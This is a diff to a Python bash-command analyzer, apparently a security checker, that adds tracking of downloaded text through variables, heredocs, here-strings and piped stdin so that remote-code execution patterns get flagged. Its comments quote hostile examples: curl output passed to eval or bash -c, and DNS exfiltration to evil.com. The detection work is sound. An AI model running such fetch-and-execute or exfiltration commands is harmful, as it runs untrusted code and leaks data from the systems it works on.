@@ -1075,6 +1075,7 @@ class _Redir:
     text: str | None = None        # here-document / here-string text when static
     dynamic_text: bool = False
     dup: bool = False
+    fetch: bool = False            # the text holds a download (<<< "$(curl URL)")
 
 
 # task runners off the safe list that run a task file of the project (gulpfile.js, Gruntfile.js,
@@ -2568,6 +2569,10 @@ class _Analyzer:
         # read l < f, mapfile): expanding one carries that output as a substitution does
         # (x=$(whoami); dig $x.evil.com is dig $(whoami).evil.com)
         self.data_vars: set[str] = set()
+        # (probe round 32) variables holding what a download printed (x=$(curl URL)):
+        # their expansion is fetched text (eval "$x", bash -c "$x" run remote code)
+        self.fetch_vars: set[str] = set()
+        self.stage_fetch = False   # the command whose words are read has a download as its input
         # ...and those holding the whole environment's text (x=$(env); git commit -m "$x"
         # is git commit -m "$(env)")
         self.env_data_vars: set[str] = set()
@@ -3693,12 +3698,13 @@ class _Analyzer:
             words = [self.word(c, ctx) for c in node.children if c.type in _WORD_TYPES]
             w = words[0] if words else _static("")
             redirs.append(_Redir(op="<<<", target=None, fd=fd, writes=False,
-                                 text=(w.value + "\n") if w.exact else None, dynamic_text=not w.exact))
+                                 text=(w.value + "\n") if w.exact else None, dynamic_text=not w.exact,
+                                 fetch=w.fetch))
             return
         # heredoc
         quoted = False
         body_text: str | None = ""
-        dynamic = False
+        dynamic = body_fetch = False
         delimiter = None
         op = "<<"
         for child in node.children:
@@ -3716,7 +3722,9 @@ class _Analyzer:
                 # the delimiter bash waits for: the word after quote removal ($'EOF' too)
                 delimiter = re.sub(r"\$(?=['\"])", "", raw).replace("'", "").replace('"', "").replace("\\", "")
             elif ct == "heredoc_body":
+                fetch_mark = self.n_fetch
                 body_text, dynamic = self.heredoc_body(child, ctx, quoted)
+                body_fetch = self.n_fetch > fetch_mark   # (<<EOF with $(curl URL) in it)
                 if op == "<<-" and body_text is not None:
                     body_text = "\n".join(line.lstrip("\t") for line in body_text.split("\n"))
             elif ct == "heredoc_end":
@@ -3735,7 +3743,8 @@ class _Analyzer:
                 raise _Unparseable(ERR_SYNTAX)
             elif child.is_named:
                 continuations.append(("stmt", child))
-        redirs.append(_Redir(op=op, target=None, fd=fd, writes=False, text=None if dynamic else body_text, dynamic_text=dynamic))
+        redirs.append(_Redir(op=op, target=None, fd=fd, writes=False, text=None if dynamic else body_text, dynamic_text=dynamic,
+                             fetch=body_fetch))
 
     def heredoc_body(self, node, ctx: _Ctx, quoted: bool) -> tuple[str | None, bool]:
         raw = self._t(node)
@@ -3778,7 +3787,7 @@ class _Analyzer:
         for r in redirs:
             if r.op in ("<<", "<<-", "<<<"):
                 if r.fd in (None, 0):   # (cmd 3<<EOF: another descriptor's text)
-                    stdin = _Stream(text=r.text)
+                    stdin = _Stream(text=r.text, fetch=r.fetch)
                 continue
             if r.dup:
                 continue
@@ -4063,6 +4072,8 @@ class _Analyzer:
             # (a value made of run-time output, not known here: data_vars)
             carried = self.n_out_subst > out_mark and not (value is not None and value.exact)
             (self.data_vars.add if carried else self.data_vars.discard)(name.split("[", 1)[0])
+            fetched = value is not None and value.fetch or any(e.fetch for e in elements or ())
+            (self.fetch_vars.add if fetched else self.fetch_vars.discard)(name.split("[", 1)[0])
             env = self.n_env_subst > env_mark
             (self.env_data_vars.add if env else self.env_data_vars.discard)(name.split("[", 1)[0])
         if name.split("[", 1)[0] in _PROMPT_VARS:
@@ -4399,6 +4410,8 @@ class _Analyzer:
             name = self._t(node)[1:]
             if name in self.vars:
                 return _Word(value=self.vars[name], dynamic=True, exact=True, bare_subst=True)
+            if name in self.fetch_vars:
+                self.n_fetch += 1   # (x=$(curl URL); eval "$x": the download, run)
             if name in self.data_vars:
                 self.n_out_subst += 1   # (run-time output, as the substitution it came from)
             if name in self.env_data_vars:
@@ -4406,7 +4419,7 @@ class _Analyzer:
             if name not in self.assigned and C.secret_env_name(name):
                 self.env_refs.append(name)
             return _Word(value=self._t(node), dynamic=True, exact=False, bare_subst=True,
-                         lister=self.lister_vars.get(name))
+                         lister=self.lister_vars.get(name), fetch=name in self.fetch_vars)
         if t == "expansion":
             return self.expansion(node, ctx)
         if t == "command_substitution":
@@ -4525,6 +4538,8 @@ class _Analyzer:
                     self.dq_code(_heredoc_as_dq(text), ctx)
         if named and named[0].type in ("variable_name", "subscript"):
             base = self._t(named[0]).split("[", 1)[0]
+            if base in self.fetch_vars and base not in self.vars:
+                self.n_fetch += 1
             if base in self.data_vars and base not in self.vars:
                 self.n_out_subst += 1   # ${x}, ${a[@]} of run-time output (data_vars)
             if base in self.env_data_vars:
@@ -4674,6 +4689,7 @@ class _Analyzer:
         saved_cwd, saved_vars = self.dir_state(), dict(self.vars)
         n_cmds = len(self.commands)
         first = node.children[0].type if node.children else ""
+        stage_fetch = self.stage_fetch
         if first == "`":
             # backticks: the text is re-read by the shell after \\, \` and \$ are unescaped
             raw = self._t(node)[1:-1]
@@ -4681,9 +4697,17 @@ class _Analyzer:
             out = self.parse_text(text, inner)
         else:
             out = self.seq(node, inner, None)
+        self.stage_fetch = stage_fetch
         self.restore_dir(saved_cwd)
         self.vars = saved_vars
         fetch = self.n_fetch > before
+        if stage_fetch and not fetch and (_STDIN_SUBST.fullmatch(self._t(node)) or any(
+                c.name in _STDIN_COPIERS and all(a == "-" or a.startswith("-") and len(a) > 1 for a in c.argv[1:])
+                for c in self.commands[n_cmds:n_cmds + 1])):
+            # curl URL | eval "$(cat)", | bash -c "$(< /dev/stdin)": the substitution prints
+            # the command's input, the download (probe round 32)
+            fetch = True
+            self.n_fetch += 1
         if out.env and not out.history:
             self.n_env_subst += 1
         if out.text is None:
@@ -4852,6 +4876,8 @@ class _Analyzer:
 
     def command(self, node, ctx: _Ctx, redirs: list[_Redir], stdin: _Stream | None, extra: list[_Word] | None = None) -> _Stream:
         words: list[_Word] = []
+        # (a command substitution in its words reads the same input: curl URL | eval "$(cat)")
+        self.stage_fetch = stdin is not None and stdin.fetch
         assigns: list[tuple[str, _Word | None]] = []
         redirs = list(redirs)
         extra_words: list[_Word] = list(extra) if extra else []
@@ -5112,6 +5138,10 @@ class _Analyzer:
         if self.namerefs and name in self.namerefs:
             self.vars_unknown(self.namerefs)   # (through a name reference: w is not the value)
             w = None
+        if w is not None and w.fetch:
+            self.fetch_vars.add(name)
+        elif self.fetch_vars:
+            self.fetch_vars.discard(name)
         if data is not None:
             (self.data_vars.add if data else self.data_vars.discard)(name)
         self.glob_vars.discard(name)
@@ -6601,6 +6631,8 @@ class _Analyzer:
                                      else _Word(value="", dynamic=True, exact=False, lister=names)
                                      if names is not None else None, loop=name == "read", data=line is None)
                         self.arrays.pop(w.value, None)
+                        if stdin is not None and stdin.fetch:
+                            self.fetch_vars.add(w.value)   # (read -r x < <(curl URL): a download)
                 self.array_from_input(name, argv[1:], stdin)
         if self.language is None and (name in C.LANGUAGE_NAMES or name.startswith("python")):
             lang = C.language_of(name, vals)
@@ -10194,6 +10226,12 @@ def _brace_word_text(m: re.Match) -> str:
     budget = [MAX_BRACE_WORDS]
     values = [v.translate(_UNMAP) for v in _brace_expand(word.translate(_BRACE_MAP), budget)]
     return " ".join(v for v in values if v) if budget[0] >= 0 else word
+
+
+# a substitution that prints its command's standard input: $(cat), $(</dev/stdin)
+_STDIN_SUBST = re.compile(r"\$\(\s*<\s*(?:/dev/stdin|/dev/fd/0|/proc/self/fd/0)\s*\)|`\s*<\s*/dev/stdin\s*`")
+_STDIN_COPIERS = frozenset({"cat", "tac", "base64", "gunzip", "zcat", "xxd", "head", "tail", "tee", "dd", "gzip", "bzcat",
+                            "xzcat", "openssl"})
 
 
 # an extended glob (bash's extglob, on in many interactive shells and under bash -O
